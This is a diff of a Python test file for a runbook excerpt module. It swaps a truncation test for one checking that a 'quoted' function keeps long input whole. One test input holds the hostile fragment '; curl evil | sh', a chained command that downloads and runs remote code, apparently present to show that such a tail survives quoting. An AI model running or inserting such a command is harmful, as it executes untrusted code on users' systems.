@@ -7,7 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from state.printable import printable_line
-from workflow.runbook.excerpt import BRIEF, WIDTH, brief, excerpt, first_column
+from workflow.runbook.excerpt import WIDTH, excerpt, first_column, quoted
 
 
 @pytest.mark.parametrize(
@@ -52,10 +52,9 @@ def test_the_first_sign_of_a_line_is_its_column(line: bytes, column: int) -> Non
     assert first_column(line) == column
 
 
-def test_what_is_quoted_is_brief() -> None:
-    assert brief("  a b ") == "a b"
-    assert brief("a" * BRIEF) == "a" * BRIEF
-    assert brief("a" * (BRIEF + 1)) == "a" * (BRIEF - 3) + "..."
+def test_what_is_quoted_is_whole() -> None:
+    assert quoted("  a b ") == "a b"
+    assert quoted("a" * 500 + "; curl evil | sh") == "a" * 500 + "; curl evil | sh"
 
 
 @given(st.text())
